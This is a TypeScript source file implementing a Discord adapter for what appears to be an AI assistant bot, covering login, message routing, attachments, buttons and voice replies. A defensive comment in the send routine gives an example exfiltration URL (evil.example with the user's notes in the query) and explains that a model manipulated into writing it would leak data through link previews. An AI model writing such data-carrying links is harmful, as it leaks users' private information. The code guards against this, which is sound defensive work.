import { once } from 'node:events';
import {
  ActionRowBuilder, ButtonBuilder, ButtonStyle, Client, DiscordAPIError, Events, GatewayIntentBits, MessageFlags, Partials, REST, Routes,
  type Interaction, type Message, type SendableChannels,
} from 'discord.js';
import type { DoctorLine } from '../part.js';
import type { Config } from '../config/schema.js';
import { AppError, errorMessage } from '../errors.js';
import { deadline } from '../lib/abort.js';
import type { Logger } from '../log.js';
import type { RemoteAttachment } from './attachments.js';
import { cleanName } from './display-name.js';
import type { ChannelRouter, ChatIo, InboundUpdate } from './router.js';
import { splitMessage } from './split.js';
import type { AttachmentKind, ChannelAdapter, OutboundReply, SpokenReply } from './types.js';
import type { VoiceOut } from './voice-notes.js';

export type DiscordConfig = NonNullable<Config['channels']['discord']>;

export const DISCORD_LIMIT = 2000;
const FILES_PER_MESSAGE = 10;
const READY_TIMEOUT_MS = 30_000;
const REACH_TIMEOUT_MS = 10_000;

export interface DiscordChannelOptions {
  router: ChannelRouter;
  config: DiscordConfig;
  log: Logger;
}

/**
 * Discord through discord.js: DMs, and guild channels when the bot is mentioned or replied to; parts of at
 * most 2000 characters; files in and out. discord.js resumes dropped gateway sessions (replaying missed
 * events) and retries REST 429s itself; the router's dedupe makes a replayed message harmless.
 * Contract: `start` throws AppError DISCORD_AUTH for a rejected token, DISCORD_UNREACHABLE when Discord cannot be
 * reached (then it may be called again).
 */
export class DiscordChannel implements ChannelAdapter {
  readonly name = 'discord';
  private readonly options: DiscordChannelOptions;
  private readonly log: Logger;
  private accepting = false;
  /** The client of the last start (a new one each start: discord.js cannot log a client in again once it failed). */
  private current: Client;
  private used = false;
  private readonly interactionListeners: Array<(interaction: Interaction) => void> = [];
  /** Aborts a start under way, at `stop`. */
  private abort: AbortController | undefined;
  private replayed = false;
  private probe: REST | undefined;

  constructor(options: DiscordChannelOptions) {
    this.options = options;
    this.log = options.log;
    this.current = this.makeClient();
  }

  /** The discord.js client of the current start (replaced when a start is tried again). */
  get client(): Client {
    return this.current;
  }

  /** Interactions (button presses) go to these listeners, on every client a start makes. May be called before `start`. */
  onInteraction(listener: (interaction: Interaction) => void): void {
    this.interactionListeners.push(listener);
    this.current.on(Events.InteractionCreate, listener);
  }

  /**
   * Asks Discord who the bot is (one request `stop` can abort, 10 s at most), then logs in and waits for the
   * gateway's ready (30 s at most). A failed login leaves discord.js's client destroyed for good (`isReady()` stays
   * false, and a destroy after a second login closes nothing), so a start after one that got that far makes a new
   * client. `stop` during the start destroys the client it made.
   */
  async start(): Promise<void> {
    const stop = new AbortController();
    this.abort = stop;
    // Login's own requests cannot be aborted, and a client destroyed while one runs may still connect after it: the
    // server is asked first with one that can.
    await this.reach(stop.signal);
    if (this.used) this.current = this.makeClient();
    this.used = true;
    const client = this.current;
    const limit = deadline(READY_TIMEOUT_MS, stop.signal);
    const ready = once(client, Events.ClientReady, { signal: limit.signal });
    try {
      await Promise.all([client.login(this.options.config.token), ready]);
    } catch (error) {
      ready.catch(() => undefined);
      await client.destroy();
      throw stop.signal.aborted ? stopped(error) : startError(error);
    } finally {
      limit.done();
    }
    this.accepting = true;
    // Once per run: a start tried again after one that failed does not answer the same messages twice.
    if (!this.replayed) {
      this.replayed = true;
      const replayed = this.options.router.replay(this.name, (update) => this.replayIo(update));
      if (replayed > 0) this.log.info({ replayed }, 'discord: answering messages left unanswered by the last run');
    }
    this.log.info({ bot: client.user?.username }, 'discord: connected');
  }

  async stop(): Promise<void> {
    this.accepting = false;
    this.abort?.abort();
  }

  async close(): Promise<void> {
    this.accepting = false;
    await this.current.destroy();
  }

  async doctor(): Promise<DoctorLine[]> {
    try {
      // No retries: a check answers in seconds and logs nothing.
      const rest = new REST({ api: this.options.config.api_url.replace(/\/+$/, ''), retries: 0, timeout: 10_000 }).setToken(this.options.config.token);
      const me = (await rest.get(Routes.user())) as { username?: string };
      return [{ status: 'ok', label: 'discord', detail: me.username ?? 'ok' }];
    } catch (error) {
      const rejected = error instanceof DiscordAPIError && error.status === 401;
      return [{
        status: 'fail', label: 'discord', detail: rejected ? 'token rejected (401)' : errorMessage(error),
        fix: rejected ? 'set channels.discord.token to the bot token from the Discord developer portal' : 'check the network and channels.discord.api_url',
      }];
    }
  }

  /** `GET /users/@me`: whether Discord answers and takes the token. */
  private async reach(signal: AbortSignal): Promise<void> {
    // One client for every start, without its sweeper timers; no retries: a start that fails is tried again later.
    this.probe ??= new REST({ api: this.options.config.api_url.replace(/\/+$/, ''), retries: 0, timeout: REACH_TIMEOUT_MS, hashSweepInterval: 0, handlerSweepInterval: 0 })
      .setToken(this.options.config.token);
    try {
      await this.probe.get(Routes.user(), { signal });
    } catch (error) {
      throw signal.aborted ? stopped(error) : startError(error);
    }
  }

  private makeClient(): Client {
    const client = new Client({
      intents: [GatewayIntentBits.Guilds, GatewayIntentBits.GuildMessages, GatewayIntentBits.DirectMessages, GatewayIntentBits.MessageContent],
      // DM channels are not cached before their first message; without this partial their messages are dropped.
      partials: [Partials.Channel],
      rest: { api: this.options.config.api_url.replace(/\/+$/, '') },
      allowedMentions: { parse: [], repliedUser: false },
    });
    client.on(Events.MessageCreate, (message) => this.onMessage(message));
    client.on(Events.Error, (error) => this.log.error({ err: error }, 'discord: client error'));
    client.on(Events.ShardDisconnect, (event) => this.log.warn({ code: event.code }, 'discord: gateway disconnected; discord.js reconnects'));
    for (const listener of this.interactionListeners) client.on(Events.InteractionCreate, listener);
    return client;
  }

  /** Sends a reply to a channel id (a DM channel or a guild channel); also used by jobs through the ChannelHub. */
  async send(chatId: string, reply: OutboundReply, replyTo?: string): Promise<void> {
    if (!this.client.isReady()) throw new AppError('CHANNEL_UNAVAILABLE', 'discord is not running (it failed to start or was closed)');
    const channel = await this.client.channels.fetch(chatId);
    if (!channel?.isSendable()) throw new AppError('CHANNEL_UNAVAILABLE', `discord: cannot send to channel ${chatId}`);
    await this.sendTo(channel, reply, replyTo);
  }

  private async sendTo(channel: SendableChannels, reply: OutboundReply, replyTo: string | undefined): Promise<void> {
    const contents = splitMessage(reply.text, DISCORD_LIMIT);
    // Buttons go under the last part: the whole text is above them.
    const components = reply.buttons && reply.buttons.length > 0
      ? [new ActionRowBuilder<ButtonBuilder>().addComponents(reply.buttons.map((button) => new ButtonBuilder().setCustomId(button.data).setLabel(button.label).setStyle(ButtonStyle.Secondary)))]
      : [];
    for (const [index, content] of contents.entries()) {
      // No link previews: Discord's servers would fetch every link in a reply, so an address the model was talked into
      // writing (https://evil.example/?d=<your notes>) would leak without any tool call. Telegram's are off as well.
      await channel.send({
        content, flags: MessageFlags.SuppressEmbeds,
        ...(index === 0 && replyTo ? { reply: { messageReference: replyTo, failIfNotExists: false } } : {}),
        ...(index === contents.length - 1 && components.length > 0 ? { components } : {}),
      });
    }
    const files = (reply.artifacts ?? []).map((artifact) => ({
      attachment: typeof artifact.content === 'string' ? Buffer.from(artifact.content, 'utf8') : artifact.content,
      name: artifact.type === 'json' && !/\.json$/i.test(artifact.name) ? `${artifact.name}.json` : artifact.name,
    }));
    for (let index = 0; index < files.length; index += FILES_PER_MESSAGE) {
      await channel.send({ files: files.slice(index, index + FILES_PER_MESSAGE) });
    }
  }

  /** For a message replayed after a restart: the channel is fetched by id (the Message object is gone). */
  private replayIo(update: InboundUpdate): ChatIo {
    return {
      send: (reply) => this.send(update.chatId, reply, update.isDirect ? undefined : update.platformMessageId),
      typing: async () => {
        const channel = await this.client.channels.fetch(update.chatId);
        if (channel?.isSendable()) await channel.sendTyping();
      },
      voice: this.voiceOut(async () => {
        const channel = await this.client.channels.fetch(update.chatId);
        if (!channel?.isSendable()) throw new AppError('CHANNEL_UNAVAILABLE', `discord: cannot send to channel ${update.chatId}`);
        return channel;
      }),
    };
  }

  /** A spoken answer as an MP3 attachment: every Discord app plays it inline. */
  private voiceOut(channelOf: () => Promise<SendableChannels>): VoiceOut {
    return {
      format: 'mp3',
      send: async (audio: SpokenReply) => {
        await (await channelOf()).send({ files: [{ attachment: audio.data, name: audio.fileName }] });
      },
    };
  }

  private onMessage(message: Message): void {
    if (!this.accepting || message.author.bot || message.system) return;
    const me = this.client.user;
    if (!me) return;
    const isDirect = !message.inGuild();
    const mentioned = message.mentions.users.has(me.id) || message.mentions.repliedUser?.id === me.id;
    if (!isDirect && !mentioned) return;
    const text = message.content.replace(new RegExp(`<@!?${me.id}>`, 'g'), '').trim();
    const update: InboundUpdate = {
      channel: this.name,
      chatId: message.channelId,
      userId: message.author.id,
      // Names are the sender's to choose: stripped of control and reordering characters before anything prints them.
      userName: cleanName(message.author.username),
      text,
      attachments: [...message.attachments.values()].map((attachment): RemoteAttachment => {
        const mimeType = attachment.contentType ?? 'application/octet-stream';
        // Audio (a voice message recorded in the app, or an audio file) is transcribed when voice.stt is set.
        const kind: AttachmentKind = mimeType.startsWith('image/') ? 'image' : mimeType.startsWith('audio/') ? 'audio' : 'file';
        return {
          kind,
          ...(kind === 'audio' ? { label: message.flags.has(MessageFlags.IsVoiceMessage) ? 'voice message' : 'audio file' } : {}),
          name: attachment.name,
          mimeType,
          size: attachment.size,
          fetch: async () => {
            const response = await fetch(attachment.url, { signal: AbortSignal.timeout(60_000) });
            if (!response.ok) throw new Error(`attachment download returned HTTP ${response.status}`);
            return Buffer.from(await response.arrayBuffer());
          },
        };
      }),
      platformMessageId: message.id,
      ...(message.reference?.messageId ? { replyTo: message.reference.messageId } : {}),
      isDirect,
    };
    const channel = message.channel;
    const replyTo = isDirect ? undefined : message.id;
    void this.options.router.handle(update, {
      send: async (reply) => {
        if (!channel.isSendable()) throw new AppError('CHANNEL_UNAVAILABLE', `discord: cannot send to channel ${message.channelId}`);
        await this.sendTo(channel, reply, replyTo);
      },
      typing: async () => {
        if (channel.isSendable()) await channel.sendTyping();
      },
      voice: this.voiceOut(async () => {
        if (!channel.isSendable()) throw new AppError('CHANNEL_UNAVAILABLE', `discord: cannot send to channel ${message.channelId}`);
        return channel;
      }),
      sendEditable: async (text) => {
        if (!channel.isSendable()) throw new AppError('CHANNEL_UNAVAILABLE', `discord: cannot send to channel ${message.channelId}`);
        // No mentions: a status line quotes a tool's words, which must not ping anyone.
        const sent = await channel.send({ content: text, flags: MessageFlags.SuppressEmbeds, allowedMentions: { parse: [] } });
        return async (next) => {
          await sent.edit({ content: next, allowedMentions: { parse: [] } });
        };
      },
    });
  }
}

function startError(error: unknown): AppError {
  if (error instanceof DiscordAPIError && error.status === 401 || /token/i.test(errorMessage(error))) {
    return new AppError('DISCORD_AUTH', 'discord: the bot token was rejected; check channels.discord.token', { cause: error });
  }
  // fetch says "fetch failed"; its cause says why (ECONNREFUSED, a timeout).
  const code = (error instanceof Error ? (error.cause as NodeJS.ErrnoException | undefined)?.code : undefined);
  return new AppError('DISCORD_UNREACHABLE', `discord: cannot connect: ${errorMessage(error)}${code ? ` (${code})` : ''}`, { cause: error });
}

function stopped(error: unknown): AppError {
  return new AppError('DISCORD_STOPPED', 'discord: stopped while connecting', { cause: error });
}
